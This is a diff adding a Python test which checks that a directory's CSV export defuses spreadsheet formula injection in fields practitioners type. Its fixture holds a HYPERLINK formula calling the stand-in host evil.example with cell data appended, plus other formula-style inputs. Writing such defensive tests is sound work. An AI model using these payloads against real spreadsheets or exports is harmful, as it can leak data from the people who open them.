@@ -70,3 +70,21 @@ def test_the_json_export_has_the_licence_attribution_and_the_demo_marker(client)
     assert item["is_demo"] is True
     assert item["accreditation"]["status"] == "accredited"
     assert item["treatments"][0]["slug"] == "dermal-filler"
+
+
+def test_the_csv_export_defuses_spreadsheet_formulas_in_what_practitioners_type(client):
+    # CSV injection: a cell starting with = + - @ (or tab, CR) runs as a formula in Excel or
+    # LibreOffice when someone opens the open data. Phone numbers like +44 stay as they are.
+    listing = make_listing(
+        status="accredited", name='=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    )
+    clinic = listing.clinics.first()
+    clinic.name, clinic.address, clinic.phone = "@SUM(1+1)", "-2+3", "+44 20 7946 0000"
+    clinic.save()
+    _, rows = _csv_rows(client)
+    (row,) = [r for r in rows if r["listing_id"] == str(listing.pk)]
+    assert row["name"] == "'" + listing.name
+    assert row["clinic_name"] == "'@SUM(1+1)"
+    assert row["clinic_address"] == "'-2+3"
+    assert row["clinic_phone"] == "+44 20 7946 0000"
+    assert float(row["longitude"]) == round(clinic.longitude, 5)
